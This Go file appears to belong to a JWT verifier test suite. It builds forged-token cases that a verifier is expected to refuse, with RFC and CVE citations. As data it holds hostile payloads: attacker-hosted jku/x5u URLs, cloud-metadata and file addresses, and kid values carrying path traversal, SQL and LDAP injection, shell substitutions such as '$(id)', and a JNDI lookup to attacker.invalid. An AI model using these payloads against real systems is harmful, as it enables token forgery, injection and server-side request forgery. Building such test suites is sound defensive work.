package attack

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/sha1"
	"encoding/base64"
	"io"
	"strings"
)

// Attacks by what else a header can say: here is my key, fetch it there, its name is this path, the payload is packed. RFC 8725
// section 3.10 in a sentence: what a token says about itself is not to be acted on before it is proven.

// addHeaderKeys brings keys along, or says where they are. Everything is signed by the stranger, whose keys these are, unless the
// name says otherwise.
func (c *corpus) addHeaderKeys(address, file string) {
	signedBy := func(by func(f forge) forge, change func(object) object) func(forge) string {
		return func(f forge) string {
			s := by(f)
			return s.sign(change(s.header()).String(), base().String())
		}
	}
	stranger := func(f forge) forge { return c.keys.stranger(f.alg) }
	trusted := func(f forge) forge { return f }

	jwk := func(f forge, more ...string) string {
		k := jwkOf(f.public()).with("alg", quote(f.alg)).with("kid", quote(KeyID))
		for i := 0; i+1 < len(more); i += 2 {
			k = k.with(more[i], more[i+1])
		}
		return k.String()
	}
	for _, row := range []struct {
		name  string
		value func(f, s forge) string
	}{
		{"the stranger's key", func(_, s forge) string { return jwk(s) }},
		{"the stranger's key for signing", func(_, s forge) string { return jwk(s, "use", `"sig"`, "key_ops", `["verify"]`) }},
		{"the stranger's key without kid", func(_, s forge) string { return jwkOf(s.public()).String() }},
		{"the stranger's key under another kid", func(_, s forge) string { return jwk(s, "kid", `"key-2"`) }},
		{"the stranger's key in a set", func(_, s forge) string { return jwksOf(jwkOf(s.public())) }},
		{"the stranger's key as text", func(_, s forge) string { return quote(jwk(s)) }},
		{"a secret", func(f, _ forge) string { return jwkOf([]byte("secret of the attacker's, 32 bytes")).String() }},
		{"the trusted key with a private half", func(f, s forge) string { return jwk(f, "d", `"AQAB"`) }},
	} {
		c.add(attempt{
			name: "jwk: " + row.name, source: "RFC 7515 4.1.3; CVE-2018-0114", want: "header_refused",
			token: func(f forge) string {
				return signedBy(stranger, setting("jwk", row.value(f, stranger(f))))(f)
			},
		})
	}
	c.add(attempt{
		name: "jwk: the stranger's key, and no kid", source: "RFC 7515 4.1.3; CVE-2018-0114", want: "header_refused",
		token: func(f forge) string {
			s := stranger(f)
			return signedBy(stranger, func(o object) object { return o.without("kid").with("jwk", jwk(s)) })(f)
		},
	})
	for _, value := range []struct{ name, json string }{
		{"null", "null"}, {"empty text", `""`}, {"an empty object", "{}"}, {"an empty list", "[]"}, {"true", "true"}, {"a number", "1"},
	} {
		for _, name := range []string{"jwk", "jku", "x5u", "x5c"} {
			c.add(attempt{
				name: name + ": " + value.name + ", signed by the trusted key", source: "RFC 7515 4.1", rule: House, want: "header_refused",
				header: setting(name, value.json),
			})
		}
	}
	c.add(attempt{
		name: "jwk: the trusted key's own, signed by it", source: "RFC 7515 4.1.3", rule: House, want: "header_refused",
		token: func(f forge) string { return signedBy(trusted, setting("jwk", jwk(f)))(f) },
	})

	host := strings.TrimPrefix(strings.TrimPrefix(address, "http://"), "https://")
	for _, url := range []struct{ name, text string }{
		{"the attacker's host", address + "/jwks.json"},
		{"over http", "http://" + host + "/jwks.json"},
		{"the trusted host as user", "https://issuer.example@" + host + "/jwks.json"},
		{"the trusted host as label", "https://issuer.example.attacker.invalid/jwks.json"},
		{"the trusted host in the fragment", address + "/jwks.json#https://issuer.example/"},
		{"the trusted host in the path", address + "/https://issuer.example/jwks.json"},
		{"a backslash", `https://` + host + `\@issuer.example/jwks.json`},
		{"a redirect of the trusted host", "https://issuer.example/login?next=" + address + "/jwks.json"},
		{"a path upwards on the trusted host", "https://issuer.example/keys/../../uploads/alice/jwks.json"},
		{"upper case scheme", "HTTPS://" + host + "/jwks.json"},
		{"no scheme", "//" + host + "/jwks.json"},
		{"a relative path", "jwks.json"},
		{"a file", "file://" + file},
		{"a file without scheme", file},
		{"a file on localhost", "file://localhost" + file},
		{"a Windows share", `\\` + host + `\keys\jwks.json`},
		{"data", "data:application/json;base64," + base64.StdEncoding.EncodeToString([]byte(`{"keys":[]}`))},
		{"ftp", "ftp://" + host + "/jwks.json"},
		{"ldap", "ldap://" + host + "/cn=keys"},
		{"gopher", "gopher://" + host + "/0keys"},
		{"the metadata of a cloud", "http://169.254.169.254/latest/meta-data/"},
		{"loopback in decimal", "http://2130706433/jwks.json"},
		{"loopback in IPv6", "http://[::1]/jwks.json"},
		{"a Unix socket", "unix://" + file},
		{"CRLF and a header", address + "/jwks.json\r\nX-Forwarded-Host: issuer.example"},
	} {
		for _, name := range []string{"jku", "x5u"} {
			source := "RFC 7515 4.1.2; RFC 8725 3.10"
			if name == "x5u" {
				source = "RFC 7515 4.1.5; RFC 8725 3.10"
			}
			c.add(attempt{
				name: name + ": " + url.name, source: source, want: "header_refused",
				token: signedBy(stranger, setting(name, quote(url.text))),
			})
		}
	}
	c.add(attempt{
		name: "jku: a list of addresses", source: "RFC 7515 4.1.2", want: "header_refused",
		token: signedBy(stranger, setting("jku", list(address+"/a.json", address+"/b.json"))),
	})
	c.add(attempt{
		name: "jku: where the trusted keys are, signed by the trusted key", source: "RFC 7515 4.1.2", rule: House, want: "header_refused",
		header: setting("jku", quote(Issuer+"/jwks.json")),
	})
	c.add(attempt{
		name: "jku, x5u and jwk at once", source: "RFC 7515 4.1", want: "header_refused",
		token: func(f forge) string {
			return signedBy(stranger, func(o object) object {
				return o.with("jku", quote(address+"/jwks.json")).with("x5u", quote(address+"/x.pem")).with("jwk", jwk(stranger(f)))
			})(f)
		},
	})

	root := c.keys.stranger("ES256").private.(*ecdsa.PrivateKey)
	own := certificate(&root.PublicKey, root)
	inBase64 := base64.StdEncoding.EncodeToString
	for _, chain := range []struct {
		name  string
		value func(f, s forge) string
	}{
		{"the stranger's certificate", func(_, s forge) string { return list(inBase64(certificateFor(s, root))) }},
		{"the stranger's certificate and its root", func(_, s forge) string { return list(inBase64(certificateFor(s, root)), inBase64(own)) }},
		{"a certificate of the trusted key", func(f, _ forge) string { return list(inBase64(certificateFor(f, root))) }},
		{"a certificate as text", func(_, s forge) string { return quote(inBase64(certificateFor(s, root))) }},
		{"a certificate in base64url", func(_, s forge) string { return list(segment(certificateFor(s, root))) }},
		{"what is no certificate", func(_, _ forge) string { return list("AAAA") }},
		{"a hundred certificates", func(_, _ forge) string { return repeated(`"AAAA"`, 100) }},
	} {
		c.add(attempt{
			name: "x5c: " + chain.name, source: "RFC 7515 4.1.6", want: "header_refused",
			token: func(f forge) string {
				return signedBy(stranger, setting("x5c", chain.value(f, stranger(f))))(f)
			},
		})
	}
	sum := sha1.Sum(own)
	for _, name := range []struct{ member, value string }{
		{"x5t", quote(segment(sum[:]))}, {"x5t#S256", quote(segment(fingerprintOf(own)))},
	} {
		c.add(attempt{
			name: name.member + ": the stranger's certificate", source: "RFC 7515 4.1.7", want: "signature_bad",
			token: signedBy(stranger, setting(name.member, name.value)),
		})
		c.add(attempt{
			name: name.member + ", which says nothing, signed by the trusted key", source: "RFC 7515 4.1.7", want: OK,
			header: setting(name.member, name.value),
		})
	}
	for _, name := range []string{"JWK", "Jwk", "JKU", "Jku", "X5C", "x5C", "X5U", "x5U", "jw\u212a", "j\u212au"} {
		c.add(attempt{
			name: "a look-alike of a refused name: " + name, source: "RFC 7515 5.3", want: "header_malformed",
			token: func(f forge) string { return signedBy(stranger, setting(name, jwk(stranger(f))))(f) },
		})
	}
	for _, name := range []string{`\u006awk`, `j\u006bu`, `x\u0035c`, `\u0078\u0035\u0075`} {
		c.add(attempt{
			name: "a refused name in escapes: " + name, source: "RFC 7515 4.1, RFC 8259 7", want: "header_refused",
			token: func(f forge) string { return signedBy(stranger, setting(name, jwk(stranger(f))))(f) },
		})
	}
	for _, name := range []string{"pem", "key", "certificate", "public_key", "secret", "x5", "jwks", "jwks_uri", "kid_url", "iss", "cnf"} {
		c.add(attempt{
			name: "an unregistered member: " + name, source: "RFC 7515 4.3", want: "signature_bad",
			token: func(f forge) string { return signedBy(stranger, setting(name, jwk(stranger(f))))(f) },
		})
	}
	c.add(attempt{name: "a member nobody knows", source: "RFC 7515 4", want: OK, header: setting("tenant", `{"id":7,"tags":["a"]}`)})
}

// certificateFor returns a certificate for the public key of f; an HMAC forge has none, and gets one for its root.
func certificateFor(f forge, root *ecdsa.PrivateKey) []byte {
	if _, secret := f.private.([]byte); secret {
		return certificate(&root.PublicKey, root)
	}
	return certificate(f.public(), root)
}

// addKeyIDs: a kid is a name that the stranger chose (RFC 7515 section 4.1.4). It is compared, byte by byte, and nothing else.
func (c *corpus) addKeyIDs() {
	// What a kid does to a verifier that opens a file or asks a database by it: the attacker knows the content, and signs with it.
	for _, row := range []struct{ name, kid, content string }{
		{"a path to an empty file", "../../../../../../dev/null", ""},
		{"an absolute path", "/dev/null", ""},
		{"a path to a file known to all", "../../../../proc/sys/kernel/randomize_va_space", "2\n"},
		{"a path with backslashes", `..\..\..\windows\win.ini`, ""},
		{"a path in percent-encoding", "..%2f..%2f..%2fdev%2fnull", ""},
		{"a path in double percent-encoding", "..%252f..%252fdev%252fnull", ""},
		{"a path behind the trusted kid", "key-1/../../../dev/null", ""},
		{"a file address", "file:///dev/null", ""},
		{"SQL: union", "' UNION SELECT 'secret' -- ", "secret"},
		{"SQL: or", "key-1' OR '1'='1", "secret"},
		{"SQL: a number", "0 UNION SELECT 0x736563726574", "secret"},
		{"SQL: a comment", "key-1'--", "secret"},
		{"SQL: pattern", "key-%", "secret"},
		{"SQL: one letter", "key-_", "secret"},
		{"NoSQL in text", `{"$ne": null}`, "secret"},
		{"LDAP", "*)(uid=*))(|(uid=*", "secret"},
		{"XPath", "' or '1'='1", "secret"},
		{"a shell command", "$(id)", "secret"},
		{"a shell command in back quotes", "`id`", "secret"},
		{"a pipe", "|id", "secret"},
		{"two commands", "key-1;id", "secret"},
		{"a template", "{{7*7}}", "49"},
		{"JNDI", "${jndi:ldap://attacker.invalid/a}", "secret"},
		{"a format", "%s%s%s%n", "secret"},
		{"markup", "<script>alert(1)</script>", "secret"},
		{"an address", "https://attacker.invalid/keys/1", "secret"},
		{"__proto__", "__proto__", "[object Object]"},
		{"constructor", "constructor", ""},
		{"toString", "toString", ""},
		{"the word null", "null", ""},
		{"the word undefined", "undefined", ""},
		{"zero", "0", ""},
		{"minus one", "-1", ""},
		{"a wildcard", "*", ""},
	} {
		c.add(attempt{
			name: row.name + ", signed with what it leads to", source: "RFC 7515 4.1.4, RFC 8725 3.10", want: "key_unknown",
			algorithms: []string{"HS256"},
			token:      func(f forge) string { return guess("HS256", []byte(row.content)).named(row.kid).good(base()) },
		})
		c.add(attempt{
			name: row.name + ", signed by the stranger", source: "RFC 7515 4.1.4, RFC 8725 3.10", want: "key_unknown", algorithms: publicKeyed[:],
			token: func(f forge) string { return c.keys.stranger(f.alg).named(row.kid).good(base()) },
		})
	}
	// What is almost the trusted kid. All of these are signed by the trusted key: who ignores the kid accepts.
	for _, row := range []struct{ name, kid, want string }{
		{"upper case", "KEY-1", "key_unknown"},
		{"title case", "Key-1", "key_unknown"},
		{"the Kelvin sign", "\u212aey-1", "header_malformed"},
		{"full width", fullWidth("key-1"), "header_malformed"},
		{"Cyrillic e", "k\u0435y-1", "header_malformed"},
		{"a minus sign", "key\u22121", "header_malformed"},
		{"a blank before", " key-1", "key_unknown"},
		{"a blank behind", "key-1 ", "key_unknown"},
		{"a tab behind", "key-1\t", "header_malformed"},
		{"a line feed behind", "key-1\n", "header_malformed"},
		{"CRLF and a header", "key-1\r\nSet-Cookie: a=b", "header_malformed"},
		{"NUL behind", "key-1\x00", "header_malformed"},
		{"NUL and an ending", "key-1\x00.pem", "header_malformed"},
		{"DEL behind", "key-1\x7f", "header_malformed"},
		{"a zero width space behind", "key-1\u200b", "header_malformed"},
		{"a byte order mark before", "\ufeffkey-1", "header_malformed"},
		{"a combining mark behind", "key-1\u0301", "header_malformed"},
		{"right-to-left", "\u202ekey-1", "header_malformed"},
		{"one character less", "key-", "key_unknown"},
		{"one character more", "key-10", "key_unknown"},
		{"another number", "key-2", "key_unknown"},
		{"a leading zero", "key-01", "key_unknown"},
		{"percent-encoded", "key%2D1", "key_unknown"},
		{"as a path", "./key-1", "key_unknown"},
		{"with a slash behind", "key-1/", "key_unknown"},
		{"with an ending", "key-1.pem", "key_unknown"},
		{"twice", "key-1,key-1", "key_unknown"},
		{"quoted", `"key-1"`, "key_unknown"},
		{"in base64", "a2V5LTE", "key_unknown"},
		{"the key's thumbprint", "", "key_unknown"},
		{"128 bytes", strings.Repeat("k", 128), "key_unknown"},
		{"129 bytes", strings.Repeat("k", 129), "header_malformed"},
		{"1900 bytes", strings.Repeat("k", 1900), "header_malformed"},
	} {
		c.add(attempt{
			name: "almost the trusted one: " + row.name, source: "RFC 7515 4.1.4, 5.3", rule: Prudent, want: row.want,
			token: func(f forge) string {
				kid := row.kid
				if kid == "" {
					kid = segment(fingerprintOf([]byte(jwkOf(f.public()).String())))
				}
				return f.named(kid).good(base())
			},
		})
	}
	for _, value := range []struct{ name, json string }{
		{"null", "null"}, {"a number", "1"}, {"zero", "0"}, {"true", "true"}, {"an empty object", "{}"}, {"an empty list", "[]"},
		{"a list with the trusted one", `["key-1"]`}, {"an object with the trusted one", `{"kid":"key-1"}`}, {"NoSQL", `{"$ne":null}`},
		{"NoSQL: more than", `{"$gt":""}`},
	} {
		c.add(attempt{
			name: "kid is " + value.name, source: "RFC 7515 4.1.4: a string", want: "header_malformed",
			header: setting("kid", value.json),
		})
	}
	c.add(attempt{name: "kid is empty", source: "RFC 7515 4.1.4", rule: House, want: "header_malformed", header: setting("kid", `""`)})
	c.add(attempt{name: "no kid where keys have one", source: "RFC 7515 4.1.4", rule: House, want: "key_unknown", header: dropping("kid")})
	c.add(attempt{
		name: "a kid where the key has none", source: "RFC 7515 4.1.4", rule: House, want: "key_unknown",
		setup: func(_ forge, a *Authority) { a.Keys[0].ID = "" },
	})
	c.add(attempt{
		name: "no kid, and the key has none", source: "RFC 7515 4.1.4: optional", want: OK,
		header: dropping("kid"), setup: func(_ forge, a *Authority) { a.Keys[0].ID = "" },
	})
	second := func(f forge) forge { return c.keys.forge(f.alg, "key-2", "second") }
	both := func(f forge, a *Authority) { a.Keys = append(a.Keys, second(f).key()) }
	c.add(attempt{
		name: "of another trusted key", source: "RFC 7515 5.2", want: "signature_bad", setup: both,
		token: func(f forge) string { return f.named("key-2").good(base()) },
	})
	c.add(attempt{
		name: "of the trusted key, signed by another trusted key", source: "RFC 7515 5.2", want: "signature_bad", setup: both,
		token: func(f forge) string { return second(f).named(KeyID).good(base()) },
	})
	c.add(attempt{
		name: "of a trusted key for another alg", source: "RFC 8725 3.1", want: "algorithm_wrong",
		setup: func(f forge, a *Authority) { a.Keys = append(a.Keys, c.otherFamily(f).key()) },
		token: func(f forge) string { return f.named("key-2").good(base()) },
	})
	c.add(attempt{
		name: "of another trusted key, signed by the stranger", source: "RFC 7515 5.2", want: "signature_bad", setup: both,
		algorithms: []string{"HS256", "ES256", "EdDSA"}, // there is one RSA key for everybody who is not the trusted one
		token:      func(f forge) string { return c.keys.stranger(f.alg).named("key-2").good(base()) },
	})
	c.add(attempt{
		name: "each trusted key under its own", source: "RFC 7515 4.1.4", want: OK, setup: both,
		token: func(f forge) string { return second(f).good(base()) },
	})
	c.add(attempt{
		name: "in escapes", source: "RFC 8259 7", want: OK,
		header: setting("kid", escaped(KeyID)),
	})
	for _, kid := range []string{"2031-05", "https://issuer.example/keys#1", "../key", "' OR 1=1 --", "=?{}[]", strings.Repeat("k", 128)} {
		c.add(attempt{
			name: "an odd one that is the key's: " + kid[:min(len(kid), 30)], source: "RFC 7515 4.1.4: any string", want: OK,
			token: func(f forge) string { return f.named(kid).good(base()) },
			setup: func(f forge, a *Authority) { a.Keys[0].ID = kid },
		})
	}
}

// otherFamily returns the key key-2, of another family than f's.
func (c *corpus) otherFamily(f forge) forge {
	if f.alg == "ES256" {
		return c.keys.forge("EdDSA", "key-2", "second")
	}
	return c.keys.forge("ES256", "key-2", "second")
}

// addCritical: whoever does not know what a member does must not go on as if it did nothing (RFC 7515 section 4.1.11).
func (c *corpus) addCritical() {
	for _, row := range []struct {
		name, json string
		rule       Rule
	}{
		{"an unknown extension", `["urn:example:must-understand"]`, Required},
		{"an unknown extension among known ones", `["exp","urn:example:must-understand"]`, Required},
		{"an unknown extension that is not there", `["missing"]`, Required},
		{"a claim", `["exp"]`, Required},
		{"a registered member: alg", `["alg"]`, Required},
		{"a registered member: kid", `["kid"]`, Required},
		{"a registered member: crit", `["crit"]`, Required},
		{"an empty list", "[]", Required},
		{"an empty name", `[""]`, Required},
		{"the same name twice", `["x","x"]`, Required},
		{"text", `"exp"`, Required},
		{"null", "null", Prudent},
		{"true", "true", Required},
		{"a number", "1", Required},
		{"an object", `{"exp":true}`, Required},
		{"a list of numbers", "[1]", Required},
		{"a list with null", "[null]", Required},
		{"a list in a list", `[["x"]]`, Required},
	} {
		c.add(attempt{
			name: "crit: " + row.name, source: "RFC 7515 4.1.11", rule: row.rule, want: "header_refused",
			header: func(o object) object {
				return o.with("urn:example:must-understand", "true").with("x", "1").with("crit", row.json)
			},
		})
	}
	unencoded := func(header func(object) object) func(f forge) string {
		return func(f forge) string {
			return f.seal(segment(header(f.header()).String()) + "." + base().String())
		}
	}
	b64 := func(value, crit string) func(object) object {
		return func(o object) object {
			if crit != "" {
				o = o.with("crit", crit)
			}
			return o.with("b64", value)
		}
	}
	for _, row := range []struct {
		name, value, crit string
		rule              Rule
	}{
		{"false", "false", `["b64"]`, Required},
		{"true", "true", `["b64"]`, House},
		{"false, not in crit", "false", "", Prudent},
		{"true, not in crit", "true", "", House},
		{"null", "null", "", Prudent},
		{"zero", "0", "", Prudent},
		{"text", `"false"`, "", Prudent},
	} {
		c.add(attempt{
			name: "b64: " + row.name, source: "RFC 7797 3", rule: row.rule, want: "header_refused",
			header: b64(row.value, row.crit),
		})
	}
	c.add(attempt{
		name: "b64: false, and the payload is bare", source: "RFC 7797 5.2", want: "header_refused|token_malformed",
		token: unencoded(b64("false", `["b64"]`)),
	})
	c.add(attempt{
		name: "b64: false and not in crit, and the payload is bare", source: "RFC 7797 6", want: "header_refused|token_malformed",
		token: unencoded(b64("false", "")),
	})

	packed := func(pack func(string) []byte, zip string) func(f forge) string {
		return func(f forge) string {
			return f.sign(f.header().with("zip", zip).String(), string(pack(base().String())))
		}
	}
	c.add(attempt{name: "zip: a packed payload", source: "RFC 8725 3.6, RFC 7516 4.1.3", want: "header_refused", token: packed(deflated, `"DEF"`)})
	c.add(attempt{name: "zip: a gzipped payload", source: "RFC 8725 3.6", want: "header_refused", token: packed(gzipped, `"GZIP"`)})
	c.add(attempt{
		name: "zip: a megabyte of blanks, packed", source: "CVE-2024-28180, CVE-2024-28176", want: "header_refused",
		token: packed(func(s string) []byte { return deflated(s + strings.Repeat(" ", 1<<20)) }, `"DEF"`),
	})
	c.add(attempt{
		name: "zip: a packed payload without zip", source: "RFC 7519 7.2", want: "claims_malformed",
		token: func(f forge) string { return f.sign(f.header().String(), string(deflated(base().String()))) },
	})
	for _, row := range []struct{ name, member, value, source string }{
		{"zip: DEF, not packed", "zip", `"DEF"`, "RFC 7516 4.1.3"},
		{"zip: null", "zip", "null", "RFC 7516 4.1.3"},
		{"zip: empty", "zip", `""`, "RFC 7516 4.1.3"},
		{"cty: text", "cty", `"text/plain"`, "RFC 7519 5.2"},
		{"cty: null", "cty", "null", "RFC 7519 5.2"},
		{"cty: empty", "cty", `""`, "RFC 7519 5.2"},
		{"cty: application/json", "cty", `"application/json"`, "RFC 7519 5.2"},
		{"cty: JWT, not nested", "cty", `"JWT"`, "RFC 7519 5.2"},
	} {
		c.add(attempt{name: row.name, source: row.source, rule: House, want: "header_refused", header: setting(row.member, row.value)})
	}
	for _, cty := range []string{"JWT", "jwt", "application/jwt"} {
		c.add(attempt{
			name: "cty: " + cty + ", a token in a token", source: "RFC 7519 5.2", rule: House, want: "header_refused",
			token: func(f forge) string { return f.sign(f.header().with("cty", quote(cty)).String(), f.good(base())) },
		})
	}
	c.add(attempt{
		name: "a token in a token, without cty", source: "RFC 7519 5.2", want: "claims_malformed",
		token: func(f forge) string { return f.sign(f.header().String(), f.good(base())) },
	})
	c.add(attempt{
		name: "a token in a token as JSON text", source: "RFC 7519 7.2", want: "claims_malformed",
		token: func(f forge) string { return f.sign(f.header().String(), quote(f.good(base()))) },
	})
	for _, name := range []string{"CRIT", "Crit", "cr\u0131t", "B64", "ZIP", "Zip", "CTY", "Cty"} {
		rule, want := Prudent, "header_malformed"
		if name == "cr\u0131t" { // the dotless i folds to no other letter
			rule, want = Required, OK
		}
		c.add(attempt{
			name: "a look-alike: " + name, source: "RFC 7515 5.3", rule: rule, want: want,
			header: setting(name, `["exp"]`),
		})
	}
	for i, name := range []string{`\u0063rit`, `b\u00364`, `\u007aip`, `ct\u0079`} {
		rule := House
		if i == 0 {
			rule = Required
		}
		c.add(attempt{
			name: "in escapes: " + name, source: "RFC 7515 4.1.11, RFC 8259 7", rule: rule, want: "header_refused",
			header: setting(name, `["exp"]`),
		})
	}
}

func deflated(s string) []byte {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		panic(err)
	}
	return written(&b, w, s)
}

func gzipped(s string) []byte {
	var b bytes.Buffer
	return written(&b, gzip.NewWriter(&b), s)
}

// written closes w after s and returns what came out.
func written(b *bytes.Buffer, w io.WriteCloser, s string) []byte {
	if _, err := io.WriteString(w, s); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}
